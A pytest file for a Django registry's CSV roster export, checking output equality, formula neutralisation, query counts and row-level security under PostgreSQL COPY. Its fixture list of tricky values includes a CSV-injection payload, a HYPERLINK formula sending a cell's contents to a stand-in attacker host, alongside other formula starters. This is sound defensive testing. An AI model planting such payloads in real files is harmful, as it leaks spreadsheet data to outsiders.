"""/api/v1/roster.csv written by PostgreSQL's COPY (core.csv_copy): byte for byte what the
Python writer it replaced wrote, on values that test a CSV writer; a fixed number of queries
whatever the rows; acting for the token's user as the application role, so that row-level
security holds for the COPY even when the access layer is left out."""

import csv
import datetime
import io
from types import SimpleNamespace

import pytest
from django.conf import settings
from django.db.models import F, Func, TextField, Value
from django.db.models.expressions import RawSQL
from django.db.models.functions import Cast
from django.http import QueryDict
from django.utils import timezone

from api import views
from api.rows import (
    CSV_HEADER,
    CSV_SPECIALIZATION_SEPARATOR,
    _specialization_codes,
    _UtcIsoText,
)
from certification.models import Application, Certification
from certification.selectors import expiring_soon_flag
from core import rls
from core.spreadsheet import FORMULA_STARTS, spreadsheet_text
from tests.api.conftest import bulk_certifications
from tests.factories import ApplicationFactory, CertificationFactory, SpecializationFactory


def export_of(rows):
    """A stand-in for `api.rows.roster_csv_export` whose rows are `rows(certifications,
    today=...)`, for either path of the export (a part of the roster or the whole)."""

    def export(certifications, *, today, whole_roster):
        return rows(certifications, today=today), None

    return export


URL = "/api/v1/roster.csv"
APP_ROLE = settings.DATABASE_APP_ROLE or "peercert_app"

# Values that test a CSV writer: separators, quotes, every line break, non-ASCII, what a
# spreadsheet runs as a formula, empty text, and what COPY treats specially (`\.`, `\N`).
TRICKY = [
    'Mary "Mae", Jr.',
    "Nguyễn-Øster\nSmith",
    "O'Brien, Müller",
    "Line\r\nBreak",
    "Carriage\rReturn",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=2",
    '="quoted, formula"\n',
    "",
    " spaced ",
    "\\.",
    "\\N",
    "back\\slash",
    '"',
    ",",
    "日本語 테스트",
    "🙂 emoji",
    "a;b",
    "'already text",
    "NULL",
    "Ana",
]


class _IsoDate(Func):
    """A date as `YYYY-MM-DD` text (what api.rows wrote before COPY)."""

    template = "to_char(%(expressions)s, 'YYYY-MM-DD')"
    output_field = TextField()


def old_roster_csv(certifications, *, today: datetime.date) -> bytes:
    """The export as written before COPY (`git show d8b9b85:api/rows.py`): the same
    queryset read through Django, every field as text, written by `csv.writer`."""
    rows = (
        certifications.prefetch_related(None)
        .annotate(
            csv_issued_on=_IsoDate("issued_on"),
            csv_expires_on=_IsoDate("expires_on"),
            csv_expiring_soon=Cast(expiring_soon_flag(on=today), TextField()),
            csv_specializations=Func(
                _specialization_codes(),
                Value(CSV_SPECIALIZATION_SEPARATOR),
                function="array_to_string",
                output_field=TextField(),
            ),
            csv_updated_at=_UtcIsoText("updated_at"),
        )
        .values_list(
            "number",
            "status",
            "first_name",
            "last_name",
            "issuing_county__code",
            "issuing_county__name",
            "csv_issued_on",
            "csv_expires_on",
            "csv_expiring_soon",
            "csv_specializations",
            "csv_updated_at",
        )
        .order_by("id")
    )
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(CSV_HEADER)
    first, last = CSV_HEADER.index("first_name"), CSV_HEADER.index("last_name")
    for row in rows:
        cells = list(row)
        cells[first], cells[last] = spreadsheet_text(cells[first]), spreadsheet_text(cells[last])
        writer.writerow(cells)
    return buffer.getvalue().encode()


def body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


@pytest.fixture
def tricky(cast):
    """Every tricky value as a first and a last name, in both counties, with none, one or two
    specializations."""
    updated = datetime.datetime(2025, 3, 4, 5, 6, 7, 123456, tzinfo=datetime.UTC)
    for n, first in enumerate(TRICKY):
        certification = CertificationFactory(
            number=f"PSS-T{n:06d}",
            issuing_county=cast.county if n % 3 else cast.other_county,
            first_name=first,
            last_name=TRICKY[-1 - n],
            status=("active", "suspended", "expired")[n % 3],
            expires_on=timezone.localdate() + datetime.timedelta(days=10 * n - 60),
            updated_at=updated,
        )
        for code in ("crisis", "unhoused")[: (n // 3) % 3]:
            SpecializationFactory(certification=certification, code=code)


@pytest.mark.parametrize(
    ("who", "params"),
    [
        ("state", {}),
        ("state", {"status": ""}),
        ("state", {"status": "active"}),
        ("reviewer", {}),
        ("reviewer", {"q": "Brien"}),
        ("state", {"county": "fresno", "specialization": "crisis"}),
    ],
)
def test_the_copy_export_is_byte_for_byte_what_the_python_writer_wrote(
    cast, client_for, tricky, who, params
):
    user = getattr(cast, who)
    request = SimpleNamespace(user=user, query_params=QueryDict(mutable=True))
    request.query_params.update(params)
    with rls.rls_context(user):
        expected = old_roster_csv(views.roster_certifications(request), today=timezone.localdate())

    new = body(client_for(user).get(URL, params))

    assert new == expected
    assert expected.count(b"PSS-T") >= 2


def test_every_formula_start_is_written_as_text(cast, client_for):
    for n, start in enumerate(FORMULA_STARTS):
        CertificationFactory(
            number=f"PSS-F{n:06d}", issuing_county=cast.county, first_name=f"{start}x"
        )

    rows = list(
        csv.DictReader(io.StringIO(body(client_for(cast.state).get(URL)).decode(), newline=""))
    )

    assert sorted(row["first_name"] for row in rows) == sorted(f"'{s}x" for s in FORMULA_STARTS)


@pytest.mark.parametrize("rows", [10, 1000])
def test_a_state_export_costs_three_queries_whatever_its_size(
    cast, client_for, rows, django_assert_num_queries
):
    bulk_certifications(rows, cast.county, specializations=("crisis", "unhoused"))
    state = client_for(cast.state)

    # The token lookup, the query checked by EXPLAIN, the COPY of every row.
    with django_assert_num_queries(3) as queries:
        text = body(state.get(URL)).decode()

    assert text.count("\r\n") == rows + 1
    assert queries.captured_queries[-1]["sql"].startswith("COPY (SELECT ")
    # The whole roster: every certification's codes gathered in one pass and joined
    # (api.rows.roster_csv_export), not a subquery per row.
    assert "string_agg" in queries.captured_queries[-1]["sql"]


@pytest.mark.parametrize("rows", [10, 1000])
def test_a_county_export_costs_five_queries_whatever_its_size(
    cast, client_for, rows, django_assert_num_queries
):
    bulk_certifications(rows, cast.county)
    bulk_certifications(rows, cast.other_county)
    reviewer = client_for(cast.reviewer)

    # The token lookup, whether the user is county staff, their county ids, EXPLAIN, COPY.
    with django_assert_num_queries(5):
        text = body(reviewer.get(URL)).decode()

    assert text.count("\r\n") == rows + 1


def test_the_copy_acts_for_the_token_user_as_the_application_role(cast, client_for, monkeypatch):
    """DRF authenticates the token inside the view; the COPY still acts for that user, as the
    application role, with the signed context."""
    CertificationFactory(issuing_county=cast.county)

    def who_is_asking(certifications, *, today):
        return Certification.objects.annotate(
            role=RawSQL("current_user::text", ()),
            user_id=RawSQL("app_user_id()::text", ()),
        ).values_list("role", "user_id")

    monkeypatch.setattr(views, "roster_csv_export", export_of(who_is_asking))

    text = body(client_for(cast.reviewer).get(URL)).decode()

    assert text.splitlines()[1:] == [f"{APP_ROLE},{cast.reviewer.pk}"]


def test_row_level_security_alone_holds_in_the_copy(cast, client_for, monkeypatch):
    """The export with its access layer left out, over a private table: the county staff
    member's COPY returns their own county's rows and no other (the certifications
    themselves are public facts of the registry, readable by anyone: SECURITY.md)."""
    own = ApplicationFactory(applicant=cast.applicant, county=cast.county, status="submitted")
    ApplicationFactory(applicant=cast.other_applicant, county=cast.other_county, status="submitted")

    def every_application(certifications, *, today):
        return (
            Application.objects.annotate(pk_text=Cast(F("pk"), TextField()))
            .values_list("pk_text")
            .order_by("pk")
        )

    monkeypatch.setattr(views, "roster_csv_export", export_of(every_application))

    text = body(client_for(cast.reviewer).get(URL)).decode()
    with rls.rls_context(system=True):
        every = sorted(str(pk) for pk in Application.objects.values_list("pk", flat=True))

    assert text.splitlines()[1:] == [str(own.pk)]
    assert len(every) == 2
